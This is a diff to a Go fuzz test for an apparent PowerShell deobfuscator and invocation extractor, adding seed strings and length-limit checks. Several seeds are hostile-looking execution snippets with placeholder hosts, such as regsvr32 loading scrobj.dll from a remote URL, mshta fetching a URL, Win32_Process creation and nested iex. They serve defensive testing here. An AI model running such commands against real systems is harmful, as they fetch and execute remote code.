@@ -5,7 +5,8 @@ import (
 	"testing"
 )
 
-// FuzzDecode: Deobfuscate and EncodedCommand never panic and keep their limits.
+// FuzzDecode: Deobfuscate, Invocations and EncodedCommand never panic and keep
+// their limits.
 func FuzzDecode(f *testing.F) {
 	for _, s := range []string{
 		`('{1}{0}' -f 'x','i')`, `[char]73+[char](70-1)`, `$env:ComSpec[4,15,25]-join''`,
@@ -20,6 +21,11 @@ func FuzzDecode(f *testing.F) {
 		`$a='Down';$b="load$a";sv c 'x';$w.($a+$b+(gv c).Value);${a}`,
 		`('D-o-w-n' -split '-') -join '' + -join 'a|b'.Split('|') + ('abc'[2..0]) -join ''`,
 		`$r='abc';-join $r[-1..-($r.Length)]`, "(\"{0}|%{{{1}}}\" -f 'a',('b'))", "<# c #> # c\n$a = 'x' # c",
+		"regsvr32 /s /i:\"http://x/a\" scrobj.dll `\n /u 2>&1 > $null; $o = cmd /c 'a' | x",
+		"& \"$env:windir\\x.exe\" a,b $(c) @{d=1} [e]; . .\\y.ps1 z",
+		"Start-Process -FilePath:cmd -Args '/c','x' -Wait; saps mshta 'http://x'",
+		"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='a b'}",
+		`[Diagnostics.Process]::Start('a','b'); (New-Object -ComObject WScript.Shell).Run('c d'); iex 'iex ''iex x y'''`,
 	} {
 		f.Add(s)
 	}
@@ -32,6 +38,15 @@ func FuzzDecode(f *testing.F) {
 		for _, l := range r.Layers {
 			if len(l.Text) > lim.MaxOutput {
 				t.Fatalf("layer %s: %d bytes > %d", l.Kind, len(l.Text), lim.MaxOutput)
+			}
+		}
+		inv := Invocations(s, 4, func(string) bool { return true })
+		if len(inv) > 4 {
+			t.Fatalf("%d invocations > 4", len(inv))
+		}
+		for _, i := range inv {
+			if len(i.CommandLine) > maxCommandLine {
+				t.Fatalf("command line %d bytes > %d", len(i.CommandLine), maxCommandLine)
 			}
 		}
 		if out, err := EncodedCommand(strings.TrimSpace(s), lim); err == nil && len(out) > lim.MaxOutput {
